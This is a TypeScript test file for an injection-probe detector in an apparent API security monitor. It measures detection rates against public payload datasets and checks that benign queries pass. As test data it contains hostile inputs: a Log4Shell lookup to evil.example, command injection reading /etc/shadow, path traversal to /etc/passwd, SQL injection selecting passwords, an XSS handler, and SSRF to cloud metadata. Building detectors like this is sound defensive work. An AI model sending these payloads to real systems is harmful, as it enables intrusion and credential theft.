import { readFileSync } from 'node:fs'
import { sharedDataPath } from '@gatewatch/infra'
import { describe, expect, it } from 'vitest'
import { makeEvent, T0 } from '../../testing/index.js'
import { replay } from '../testing.js'
import { anonymous } from '../traffic/testing.js'
import { injectionProbe } from './index.js'
import { findInjection } from './injection-probe.js'

/** RFC 4180 rows (quoted fields with doubled quotes, commas and newlines inside); a test reader, no dependency. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"'
      i++
    } else if (c === '"') {
      quoted = !quoted
    } else if (quoted || (c !== ',' && c !== '\n' && c !== '\r')) {
      field += c
    } else if (c === ',') {
      row.push(field)
      field = ''
    } else if (c === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
    }
  }
  return rows
}

const asQuery = (value: string) => ({ path: '/search', query: `q=${encodeURIComponent(value)}` })

const request = (i: number, overrides: Parameters<typeof makeEvent>[1]) =>
  makeEvent(`inj-${i}`, { ts: T0 + i * 1000, client_ip: '198.51.100.50', principal: anonymous, ...overrides })

describe('injection.probe signatures', () => {
  it('find 97% of the labelled attacks of HttpParamsDataset and none of its 19,304 benign values', () => {
    const rows = readCsv(readFileSync(sharedDataPath('httpparamsdataset', 'payload_full.csv'), 'utf8')).slice(
      1,
    )
    const tally = new Map<string, { found: number; total: number }>()
    for (const [payload, , type] of rows) {
      const t = tally.get(type!) ?? { found: 0, total: 0 }
      t.total++
      if (findInjection(asQuery(payload!))) t.found++
      tally.set(type!, t)
    }
    const rate = (type: string) => tally.get(type)!.found / tally.get(type)!.total
    expect(tally.get('norm')).toEqual({ found: 0, total: 19_304 })
    expect(rate('sqli')).toBeGreaterThan(0.985)
    expect(rate('xss')).toBeGreaterThan(0.96)
    expect(rate('cmdi')).toBeGreaterThan(0.75)
    expect(rate('path-traversal')).toBeGreaterThan(0.7)
  })

  it.each([
    ['SQL Injection/Intruder/Generic_UnionSelect.txt', 0.99],
    ['SQL Injection/Intruder/Generic_TimeBased.txt', 0.97],
    ['SQL Injection/Intruder/Generic_ErrorBased.txt', 0.75],
    ['XSS Injection/Intruders/IntrudersXSS.txt', 0.99],
    ['XSS Injection/Intruders/xss_payloads_quick.txt', 0.95],
    ['Directory Traversal/Intruder/directory_traversal.txt', 0.9],
    ['Directory Traversal/Intruder/deep_traversal.txt', 0.78],
    ['Command Injection/Intruder/command-execution-unix.txt', 0.8],
  ])('find the real scanner wordlist %s (at least %d of it) in a query value', (file, share) => {
    const lines = readFileSync(sharedDataPath('payloadsallthethings-intruders', file), 'utf8')
      .split('\n')
      .map((l) => l.trim())
      .filter((l) => l && !l.startsWith('#'))
    const found = lines.filter((l) => findInjection(asQuery(l))).length
    expect(found / lines.length).toBeGreaterThan(share)
  })

  it.each([
    ['/search', "q=O'Brien"],
    ['/search', 'q=select+a+plan+from+our+catalog'],
    ['/search', 'q=rock+and+roll'],
    ['/search', "q=it's+1+or+2+items"],
    ['/search', 'q=tom+%26+jerry'],
    ['/search', 'q=drop+shipping;+update+policy'],
    ['/docs/unix-commands', 'topic=cat+and+ls'],
    ['/redirect', 'next=https://www.example.com/account'],
    ['/redirect', 'next=../dashboard'],
    ['/files', 'name=report..final.pdf'],
    ['/articles/1-or-2-things', ''],
    ['/api/v1/users/42', 'fields=id,name&sort=-created_at'],
    ['/math', 'expr=2%2B2%3D4'],
    ['/comments', 'text=I+love+%3C3+this+%3Ablush%3A'],
    ['/search', 'q=C%23+script+tutorial'],
    ['/wiki/Semicolon;_the_punctuation', ''],
  ])('leave a benign look-alike alone: %s?%s', (path, query) => {
    expect(findInjection({ path, query })).toBeNull()
  })

  it.each([
    ['double-encoded SQLi', '/items', 'id=1%2527%2520or%25201%253D1--', 'sqli'],
    ['SQLi in a path segment', "/product/1'%20union%20select%20password%20from%20users--", '', 'sqli'],
    ['encoded traversal in the path', '/static/..%2f..%2f..%2fetc%2fpasswd', '', 'traversal'],
    ['overlong UTF-8 traversal', '/download', 'file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'traversal'],
    ['XSS with an event handler', '/search', 'q=%3Csvg%20onload%3Dalert(1)%3E', 'xss'],
    ['command injection', '/ping', 'host=127.0.0.1%3Bcat%20/etc/shadow', 'cmdi'],
    ['Log4Shell lookup', '/search', 'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D', 'cmdi'],
    ['SSRF to cloud metadata', '/fetch', 'url=http://169.254.169.254/latest/meta-data/', 'ssrf'],
    ['a null byte cutting a file name', '/download', 'file=report.pdf%00.txt', 'traversal'],
    ['a shell path in a plain value', '/run', 'cmd=/bin/sh', 'cmdi'],
    ['a SQL catalog in a plain value', '/report', 'table=information_schema.tables', 'sqli'],
    ['a path-only select', '/select/password/from/dual--', '', 'sqli'],
    ['SSRF to localhost', '/webhook', 'target=http%3A%2F%2Flocalhost%3A8080%2Fadmin', 'ssrf'],
  ])('find %s', (_, path, query, expected) => {
    expect(findInjection({ path, query })?.class).toBe(expected)
  })
})

describe('injection.probe detector', () => {
  it('raises medium for refused probes, high once one was answered 200 or 500', () => {
    const { findings } = replay(injectionProbe, [
      request(0, { path: '/items', query: "id=1'%20or%20'1'%3D'1", status: 403 }),
      request(1, { path: '/items', query: 'id=1%20union%20select%20null--', status: 400 }),
      request(2, { path: '/items', query: "id=1'%20and%20sleep(5)--", status: 500 }),
    ])
    expect(findings.map((f) => f.severity)).toEqual(['medium', 'medium', 'high'])
    expect(findings.at(-1)).toMatchObject({
      type: 'injection.probe',
      owasp: 'API8:2023 Security Misconfiguration',
      subject: { kind: 'ip', id: '198.51.100.50' },
      observed: { requests: 3, classes: 'sqli', answered_2xx_or_5xx: 1 },
      events: 3,
    })
    expect(findings.at(-1)!.sample_event_ids).toHaveLength(3)
  })

  it('files SSRF-only probing under API7', () => {
    const { findings } = replay(injectionProbe, [
      request(0, { path: '/fetch', query: 'url=http://169.254.169.254/', status: 200 }),
    ])
    expect(findings[0]).toMatchObject({ owasp: 'API7:2023 Server Side Request Forgery', severity: 'high' })
  })

  it('inspects only max_value_length characters of a hostile 1 MB query', () => {
    const query = `q=${'a'.repeat(1_000_000)}%27%20or%201%3D1--`
    expect(replay(injectionProbe, [request(0, { path: '/s', query })]).findings).toEqual([])
    expect(findInjection({ path: '/s', query: `q=${'a'.repeat(100)}%27%20or%201%3D1--` })).not.toBeNull()
  })
})
